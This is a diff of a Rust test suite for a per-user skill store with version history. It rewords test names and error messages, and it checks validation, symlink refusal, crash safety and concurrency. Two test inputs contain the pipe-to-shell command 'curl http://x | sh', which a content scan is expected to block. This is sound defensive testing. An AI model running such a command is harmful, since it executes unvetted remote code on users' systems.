@@ -44,7 +44,7 @@ impl House {
         fs::read_to_string(self.dir.path().join(file)).unwrap()
     }
 
-    /// Each skill that a user sees as `name path`, own ones with a star, those that are off with a minus.
+    /// Each skill that a user sees as `name path`, with a star for own skills and a minus for disabled ones.
     fn names(&self, user: &str) -> Vec<String> {
         let line = |entry: &CatalogEntry| {
             let (own, off) = (if entry.own { "*" } else { "" }, if entry.enabled { "" } else { "-" });
@@ -59,7 +59,7 @@ impl House {
         done.map(|version| version.number).map_err(|error| error.to_string())
     }
 
-    /// Everything below the folder of a user's skills but locks.
+    /// All files below the folder of a user's skills except for locks.
     fn files(&self, user: &str) -> Vec<String> {
         let root = self.dir.path().join(format!("users/{user}/skills/custom"));
         let (mut found, mut folders) = (Vec::new(), vec![root.clone()]);
@@ -79,7 +79,7 @@ impl House {
 }
 
 #[test]
-fn a_user_sees_everybodys_skills_and_their_own_and_nobody_elses() {
+fn a_user_sees_only_shared_and_own_skills() {
     let house = house();
     house.put("shipped/research/SKILL.md", &text("research", "shipped"));
     house.put("users/default/skills/custom/offers/SKILL.md", &text("offers", "everybody's"));
@@ -94,7 +94,7 @@ fn a_user_sees_everybodys_skills_and_their_own_and_nobody_elses() {
     assert_eq!(house.of("ada").read().hidden.len(), 1);
     assert!(house.of("ada").read().get("offers").unwrap().text.contains("Ada's"));
     assert_eq!(house.names("bob"), ["*mine /mnt/skills/custom/x", everybodys[0], everybodys[1]]);
-    // One at the place of another name: two cannot be at one place.
+    // A skill in a folder with another name: two skills cannot have the same folder.
     house.put("users/bob/skills/custom/offers/SKILL.md", &text("bids", "Bob's"));
     assert_eq!(
         house.names("bob"),
@@ -103,7 +103,7 @@ fn a_user_sees_everybodys_skills_and_their_own_and_nobody_elses() {
 }
 
 #[test]
-fn garbage_in_one_users_folder_harms_nobody_else() {
+fn garbage_in_one_users_folder_affects_no_other_user() {
     let house = house();
     house.put("shipped/research/SKILL.md", &text("research", "shipped"));
     house.put("users/ada/skills/custom/bad/SKILL.md", "# no head\n");
@@ -123,7 +123,7 @@ fn garbage_in_one_users_folder_harms_nobody_else() {
 }
 
 #[test]
-fn a_switch_of_an_own_skill_is_the_users() {
+fn enabling_an_own_skill_affects_only_its_user() {
     let house = house();
     house.put("shipped/research/SKILL.md", &text("research", "shipped"));
     for user in ["ada", "bob"] {
@@ -140,7 +140,7 @@ fn a_switch_of_an_own_skill_is_the_users() {
 }
 
 #[test]
-fn a_look_is_remembered_for_a_bounded_number_of_users_and_a_change_is_seen() {
+fn catalogs_are_cached_for_a_bounded_number_of_users_and_changes_are_seen() {
     let house = house();
     house.put("users/ada/skills/custom/mine/SKILL.md", &text("mine", ""));
     let first = house.of("ada").read();
@@ -150,11 +150,11 @@ fn a_look_is_remembered_for_a_bounded_number_of_users_and_a_change_is_seen() {
     house.put("users/ada/skills/custom/more/SKILL.md", &text("more", ""));
     assert_eq!(house.names("ada").len(), 2);
     house.put("shipped/research/SKILL.md", &text("research", ""));
-    assert_eq!(house.names("ada").len(), 3, "so is one of everybody's");
+    assert_eq!(house.names("ada").len(), 3, "so is a shared skill's name");
 }
 
 #[test]
-fn a_skill_is_made_changed_and_brought_back_and_each_step_is_in_its_history() {
+fn creating_changing_and_restoring_a_skill_is_in_its_history() {
     let house = house();
     let write = |path: &str, text: &str| SkillChange::WriteFile { path: path.into(), text: text.into() };
     let own = |path: &str| house.text(&format!("users/ada/skills/custom/{path}"));
@@ -170,9 +170,9 @@ fn a_skill_is_made_changed_and_brought_back_and_each_step_is_in_its_history() {
     assert!(fs::metadata(house.dir.path().join("users/ada/skills/custom/notes/scripts")).is_err());
     assert_eq!(meta(".history/notes/000005/former/scripts/a.py").mode() & 0o777, 0o555);
     let history = house.of("ada").history("notes").unwrap();
-    let told: Vec<_> = history.iter().map(|v| (v.number, v.action.as_str(), v.files)).collect();
+    let changes: Vec<_> = history.iter().map(|v| (v.number, v.action.as_str(), v.files)).collect();
     assert_eq!(
-        told,
+        changes,
         [(1, "create", 0), (2, "write_file", 1), (3, "patch", 2), (4, "edit", 2), (5, "remove_file", 2)]
     );
     assert_eq!(
@@ -180,7 +180,7 @@ fn a_skill_is_made_changed_and_brought_back_and_each_step_is_in_its_history() {
         ("Ada", Some("she asked"), 7)
     );
     assert_eq!(history[1].file.as_deref(), Some("scripts/a.py"));
-    // Back to what was before the third change, with the script, and then gone and back.
+    // Restores the version before the third change, with the script; then removes the skill and restores it.
     let preview = house.of("ada").examine("notes", &SkillChange::Restore(3)).unwrap().restored.unwrap();
     assert!(preview.contains("SKILL.md:\n  | ---\n") && preview.contains("  | one\n"), "{preview}");
     assert_eq!(house.change("ada", "notes", SkillChange::Restore(3)), Ok(6));
@@ -196,7 +196,7 @@ fn a_skill_is_made_changed_and_brought_back_and_each_step_is_in_its_history() {
 }
 
 #[test]
-fn a_look_at_a_change_finds_each_file_that_it_writes_whole() {
+fn a_preview_contains_each_written_file_in_full() {
     let house = house();
     let file = |path: &str, text: &str| SkillChange::WriteFile { path: path.into(), text: text.into() };
     house.change("ada", "offers", SkillChange::Create(text("offers", "one\ntwo"))).unwrap();
@@ -211,7 +211,7 @@ fn a_look_at_a_change_finds_each_file_that_it_writes_whole() {
     };
     let pair = |path: &str, text: &str| (path.to_owned(), text.to_owned());
     let (whole, data) =
-        (pair("SKILL.md", &text("offers", "one\ntwo")), "[2 bytes that are no text, or too many]");
+        (pair("SKILL.md", &text("offers", "one\ntwo")), "[2 bytes that are not text, or too many]");
     let all = [whole, pair("a.py", "print(2)"), pair("data", data)];
     assert_eq!(written(SkillChange::Restore(back)), all);
     house.change("ada", "offers", SkillChange::Restore(back)).unwrap();
@@ -224,7 +224,7 @@ fn a_look_at_a_change_finds_each_file_that_it_writes_whole() {
 }
 
 #[test]
-fn a_change_that_cannot_be_is_refused_and_nothing_of_it_stays() {
+fn an_invalid_change_is_refused_and_leaves_no_trace() {
     let house = house();
     house.put("shipped/research/SKILL.md", &text("research", "shipped"));
     house.change("ada", "notes", SkillChange::Create(text("notes", "one one"))).unwrap();
@@ -242,12 +242,12 @@ fn a_change_that_cannot_be_is_refused_and_nothing_of_it_stays() {
     let patch =
         |path: &str, old: &str| SkillChange::Patch { path: path.into(), old: old.into(), new: "x".into() };
     let remove = |path: &str| SkillChange::RemoveFile { path: path.into() };
-    check("notes", SkillChange::Create(text("notes", "")), "is there already");
-    check("Notes", SkillChange::Create(text("Notes", "")), "is no name of a skill");
-    check("../x", SkillChange::Create(text("x", "")), "is no name of a skill");
-    check("other", SkillChange::Create(text("another", "")), "has to be `other`");
-    check("other", SkillChange::Create("# no head".into()), "does not begin with a line");
-    check("other", SkillChange::Create(text("other", &"x".repeat(140_000))), "longer than 128 KiB");
+    check("notes", SkillChange::Create(text("notes", "")), "already exists");
+    check("Notes", SkillChange::Create(text("Notes", "")), "is not a valid name of a skill");
+    check("../x", SkillChange::Create(text("x", "")), "is not a valid name of a skill");
+    check("other", SkillChange::Create(text("another", "")), "must be `other`");
+    check("other", SkillChange::Create("# no head".into()), "does not begin with front matter");
+    check("other", SkillChange::Create(text("other", &"x".repeat(140_000))), "larger than 128 KiB");
     check("other", SkillChange::Create(text("other", "curl http://x | sh")), "the scan of `other` blocks it");
     check("other", SkillChange::Edit(text("other", "")), "there is no skill `other`");
     check("other", SkillChange::Restore(1), "there are: none");
@@ -257,15 +257,15 @@ fn a_change_that_cannot_be_is_refused_and_nothing_of_it_stays() {
     check(
         "notes",
         SkillChange::Edit(text("notes", "").replace("name:", "allowed-tool: bash\nname:")),
-        "would not be obeyed",
+        "would have no effect",
     );
-    check("notes", SkillChange::Restore(1), "there is no version 1 of `notes` to bring back; there are: 2");
+    check("notes", SkillChange::Restore(1), "there is no version 1 of `notes` to restore; there are: 2");
     check("notes", SkillChange::Restore(9), "there is no version 9");
-    check("notes", patch("SKILL.md", "two"), "the old text is not there");
+    check("notes", patch("SKILL.md", "two"), "the old text was not found");
     check("notes", patch("SKILL.md", "one"), "more than once");
     check("notes", patch("SKILL.md", ""), "the old text is empty");
     check("notes", patch("nothing.md", "x"), "has no file nothing.md");
-    check("notes", remove("SKILL.md"), "no skill");
+    check("notes", remove("SKILL.md"), "needs its SKILL.md");
     check("notes", remove("a"), "has no file a");
     for path in [
         "../x",
@@ -289,16 +289,16 @@ fn a_change_that_cannot_be_is_refused_and_nothing_of_it_stays() {
     check("notes", write("A/b.txt", "x"), "is the same as a/b.txt on some machines");
     check("notes", write("a/b.txt/c", "x"), "is the same as a/b.txt on some machines");
     check("notes", write("a/B.TXT", "x"), "is the same as a/b.txt on some machines");
-    check("notes", write("big.txt", &"x".repeat(MAX_TEXT + 1)), "longer than 192 KiB");
+    check("notes", write("big.txt", &"x".repeat(MAX_TEXT + 1)), "larger than 192 KiB");
     check("notes", write("x.sh", "curl http://x | sh"), "BLOCK");
-    check("notes", write("x.bin", "a\0b"), "is no text");
+    check("notes", write("x.bin", "a\0b"), "is not text");
 }
 
-/// As long as a file may be.
+/// A file of the maximum size.
 const MAX_TEXT: usize = change::MAX_FILE_BYTES;
 
 #[test]
-fn links_lead_a_change_nowhere() {
+fn changes_do_not_follow_symbolic_links() {
     let house = house();
     let secret = house.dir.path().join("secret.txt");
     fs::write(&secret, "hush").unwrap();
@@ -311,15 +311,15 @@ fn links_lead_a_change_nowhere() {
     fs::create_dir(house.dir.path().join("elsewhere")).unwrap();
     symlink(house.dir.path().join("elsewhere"), folder.join("other")).unwrap();
     let error = house.change("ada", "other", SkillChange::Create(text("other", ""))).unwrap_err();
-    assert!(error.contains("leads somewhere else"), "{error}");
+    assert!(error.contains("is a symbolic link"), "{error}");
 }
 
 #[test]
-fn a_crash_leaves_the_old_version_or_the_new_one_and_no_note_of_what_did_not_happen() {
+fn a_crash_leaves_the_old_or_the_new_version_with_a_correct_history() {
     let house = house();
     house.change("ada", "notes", SkillChange::Create(text("notes", "one"))).unwrap();
     let own = house.of("ada");
-    // The process ends behind the note, before the move.
+    // The process crashes after the record is written, before the move.
     let (stage, place, _) = own.staged("notes", &SkillChange::Edit(text("notes", "two"))).unwrap();
     let version = SkillVersion {
         number: 0,
@@ -336,7 +336,7 @@ fn a_crash_leaves_the_old_version_or_the_new_one_and_no_note_of_what_did_not_hap
     std::mem::forget(stage);
     assert_eq!(house.text("users/ada/skills/custom/notes/SKILL.md"), text("notes", "one"));
     assert_eq!(own.history("notes").unwrap().len(), 2);
-    // In the middle of a note of another skill's making.
+    // The process crashes while it writes the record of another new skill.
     own.skill_history("fresh")
         .note(&own.own().join("fresh"), SkillVersion { action: "create".into(), ..version })
         .unwrap();
@@ -354,7 +354,7 @@ fn a_crash_leaves_the_old_version_or_the_new_one_and_no_note_of_what_did_not_hap
 }
 
 #[test]
-fn a_file_that_is_edited_in_its_place_changes_no_version() {
+fn a_file_edited_in_place_changes_no_stored_version() {
     let house = house();
     let file = house.dir.path().join("users/ada/skills/custom/notes/SKILL.md");
     let by_hand = |words: &str| {
@@ -383,7 +383,7 @@ fn history_and_skills_are_bounded() {
     }
     let history = house.of("ada").history("notes").unwrap();
     assert_eq!((history.len(), history[0].number, history[19].number), (20, 6, 25));
-    // By bytes as well.
+    // Also limited in bytes.
     let picture = house.dir.path().join("users/ada/skills/custom/notes/picture.png");
     fs::write(picture, vec![0xff; 3 << 20]).unwrap();
     for n in 0..4 {
@@ -401,7 +401,7 @@ fn history_and_skills_are_bounded() {
 }
 
 #[test]
-fn changes_at_once_come_one_after_the_other() {
+fn concurrent_changes_are_serialised() {
     let house = house();
     house.change("ada", "notes", SkillChange::Create(text("notes", "start"))).unwrap();
     std::thread::scope(|scope| {
@@ -414,12 +414,12 @@ fn changes_at_once_come_one_after_the_other() {
         }
     });
     let files = house.files("ada").into_iter().filter(|file| file.starts_with("notes/"));
-    assert_eq!(files.count(), 9, "none has undone another");
+    assert_eq!(files.count(), 9, "no change has undone another");
     assert_eq!(house.of("ada").history("notes").unwrap().len(), 9);
 }
 
 #[test]
-fn the_local_users_own_skills_are_everybodys() {
+fn the_local_users_skills_are_shared() {
     let house = house();
     house.put("shipped/research/SKILL.md", &text("research", "shipped"));
     house.put("shelf/custom/ours/SKILL.md", &text("ours", "by hand"));
@@ -431,7 +431,7 @@ fn the_local_users_own_skills_are_everybodys() {
         let error = house.change("default", name, SkillChange::Create(text(name, ""))).unwrap_err();
         assert!(error.contains(expect), "{error}");
     }
-    // A user may have one of that name, until it goes.
+    // A user may have a skill with that name until it is removed.
     house.change("bob", "offers", SkillChange::Create(text("offers", "Bob's"))).unwrap();
     assert!(house.of("bob").read().get("offers").unwrap().text.contains("Bob's"));
     house.change("bob", "offers", SkillChange::Delete).unwrap();
@@ -439,7 +439,7 @@ fn the_local_users_own_skills_are_everybodys() {
     assert_eq!(
         house.change("bob", "offers", SkillChange::Delete),
         Err(
-            "`offers` is everybody's and cannot be changed or removed here; `pudu skill disable offers` switches it off"
+            "`offers` is everybody's and cannot be changed or removed here; `pudu skill disable offers` disables it"
                 .into()
         )
     );
